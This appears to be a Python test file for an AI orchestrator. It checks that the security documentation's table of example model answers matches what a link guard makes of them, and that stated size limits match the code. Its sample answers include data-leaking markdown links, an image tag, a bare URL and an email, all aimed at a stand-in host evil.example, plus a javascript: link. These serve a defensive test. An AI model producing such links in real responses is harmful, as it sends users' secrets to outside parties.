"""docs/security.md: its examples of answers are what the guard makes of them, its figures those of the code."""

from __future__ import annotations

from pathlib import Path

import pytest

from orchestrator.model.base import RespondingRequest, ToolMessage
from orchestrator.model.completion_request import encode_request
from orchestrator.response.addresses import Addresses
from orchestrator.response.code_blocks import MAX_HELD
from orchestrator.response.links import guarded
from orchestrator.turn.opening import FENCE_BYTES

PAGE = Path(__file__).parents[2] / "docs" / "security.md"
HEAD = "| the model writes | people get |\n|---|---|\n"

GIVEN = "https://given.example/a"
ADDRESSES = Addresses(
    texts=lambda: (GIVEN, "https://plugin.example/house.png"),
    origins=frozenset({"https://plugin.example:443"}),
    composable=frozenset({"https://plugin.example:443"}),
)
ANSWERS = (
    f"see [the report]({GIVEN})",
    "see [your order](https://plugin.example/orders/17)",
    "see [the report](https://evil.example/?q=secret)",
    "![the house](https://plugin.example/house.png)",
    "![](https://evil.example/?q=secret)",
    "https://evil.example/?q=secret",
    '<img src="https://evil.example/?q=secret">',
    "[more](javascript:alert)",
    "ask secret@evil.example",
)


def _cell(text: str) -> str:
    if "`" in (text[0], text[-1]):
        return f"`` {text} ``"
    return f"``{text}``" if "`" in text else f"`{text}`"


def written() -> str:
    """The table of examples."""
    return "".join(f"| {_cell(answer)} | {_cell(guarded(answer, lambda: ADDRESSES))} |\n" for answer in ANSWERS)


def test_the_examples_are_what_becomes_of_them() -> None:
    assert HEAD + written() in PAGE.read_text(encoding="utf-8")


def test_the_fence_costs_what_is_said() -> None:
    mark = "0" * 2 * FENCE_BYTES
    request = RespondingRequest(system="", messages=(ToolMessage(call_id="1", text="", fence=mark),))
    bare = RespondingRequest(system="", messages=(ToolMessage(call_id="1", text=""),))
    breaks = 2  # each is written as two characters of JSON
    assert len(encode_request("m", request)) - len(encode_request("m", bare)) == 44 + breaks


@pytest.mark.parametrize(
    "words", [f"the same {2 * FENCE_BYTES} random characters", f"at most {MAX_HELD} characters wait"]
)
def test_a_limit_is_named_as_it_is(words: str) -> None:
    assert words in " ".join(PAGE.read_text(encoding="utf-8").split())


if __name__ == "__main__":
    before, _, behind = PAGE.read_text(encoding="utf-8").partition(HEAD)
    after = behind[behind.index("\n\n") + 1 :]
    PAGE.write_text(before + HEAD + written() + after, encoding="utf-8")
